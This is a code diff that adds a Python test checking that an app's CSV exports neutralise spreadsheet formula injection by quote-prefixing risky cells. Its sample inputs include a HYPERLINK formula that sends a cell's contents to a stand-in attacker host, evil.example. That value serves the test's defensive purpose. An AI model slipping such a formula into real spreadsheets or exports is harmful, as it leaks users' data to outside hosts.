@@ -111,3 +111,26 @@ def test_iter_events_yields_in_time_order_in_batches(app):
         events = list(iter_events(database(), EventFilter(user_id=7, action="page_view"), batch_size=4))
     assert len(events) == 13
     assert [event.occurred_at for event in events] == sorted(event.occurred_at for event in events)
+
+
+FORMULAS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1")
+
+
+def test_formula_cells_are_neutralised_in_the_api_and_dashboard_exports(client):
+    """A spreadsheet opening either export shows each action as text and evaluates none of them."""
+    for index, action in enumerate((*FORMULAS, "page_view", "a=b", "it's fine")):
+        assert post_event(client, user_id=42, action=action, metadata={"formula": "=1+1"},
+                          occurred_at=f"2025-10-20T10:00:{index:02d}Z").status_code == 201
+    for url in ("/api/events/export?user_id=42", "/events/export?user_id=42"):
+        response = client.get(url)
+        assert response.status_code == 200, url
+        text = response.get_data(as_text=True)
+        rows = read_csv(response.data)
+        assert [row["action"] for row in rows] == [*("'" + action for action in FORMULAS),
+                                                   "page_view", "a=b", "it's fine"], url
+        for line in text.split("\r\n")[1:-1]:
+            cells = next(csv.reader([line]))
+            assert not cells[2].startswith(("=", "+", "-", "@", "\t", "\r")), line
+        # every text cell is quoted, so a separator inside one cannot split it in any spreadsheet
+        assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")"' in text
+        assert all(json.loads(row["metadata"]) == {"formula": "=1+1"} for row in rows)
